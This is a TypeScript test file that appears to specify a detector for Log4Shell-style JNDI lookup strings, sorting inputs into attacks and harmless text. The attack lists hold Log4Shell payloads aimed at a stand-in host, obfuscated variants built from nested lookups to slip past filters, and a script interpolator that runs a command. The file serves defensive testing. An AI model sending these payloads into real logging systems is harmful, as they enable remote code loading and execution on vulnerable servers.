import { specifyFamily } from "../../support/exact-rules.ts";

specifyFamily("jndi", {
  attacks: {
    "plain look-ups": [
      "${jndi:ldap://evil.example/a}",
      "${jndi:rmi://evil.example/a}",
      "${jndi:dns://evil.example}",
      "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
      "\\u0024{jndi:ldap://x.example}",
      "${jndi: ldap://evil.example/a}",
      "Was it ${jndi:ldap://evil.example/a} that you saw?",
      "${jndi:ldap:/evil.example/a}",
      "${jndi:ldap://",
      "The jndi lookup of log4j, as in jndi:ldap://evil.example/a",
    ],
    "letters by way of other look-ups": [
      "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
      "${${lower:j}ndi:ldap://evil.example/a}",
      "${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}",
      "${${date:'j'}${date:'n'}di:ldap://evil.example}",
      "${j${k8s:k5:-ND}i:ldap://evil.example}",
      "${${lower:${lower:jndi}}:ldap://evil.example}",
      "${jndi:${lower:l}${lower:d}ap://evil.example}",
    ],
    "look-ups that are cut off": [
      "${jndi:",
      "${${::-j}ndi:",
      "${${::-j}${::-n}",
      "${j${lower:n}",
      "${${env:X:-j}",
    ],
    "interpolators that fetch or run": [
      "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
      "${url:UTF-8:http://x.example}",
      "${dns:address|x.example}",
    ],
  },
  harmless: {
    "defaults of shells and settings": [
      "${VAR:-default}",
      "${DEBUG:-n}",
      "${A:-${B:-j}}",
      "Use ${HOME:-/root} when HOME is unset.",
      "${env:LOG_DIR:-${sys:java.io.tmpdir}}",
      "${server.port:8080}",
    ],
    "look-ups that are talked about": [
      "`${jndi:...}`",
      "look-ups such as ${jndi:ldap://…} or ${jndi:rmi://...}",
      "${jndi:ldap} was the log4j thing, right?",
      "Was it ${jndi:rmi} or ${jndi:dns} that the scanner used?",
      "Block everything that starts with ${jndi:ldap or ${jndi:rmi, please.",
      'Our filter looks for "${jndi:" and for "${jndi:ldap:" in headers.',
      "The string `${jndi:` in a user agent means a log4shell probe.",
      "${jndi: was in every access log of that winter.",
      "<Property name='ctx'>${jndi:logging/context-name}</Property>",
    ],
    "templates and single look-ups": [
      "Hello ${firstName}, your order ${orderId} is ready.",
      "${{ secrets.TOKEN }}",
      "${lower:j}${lower:s}",
      "${env:FLAG:-j}",
      "${project.version}",
    ],
  },
});
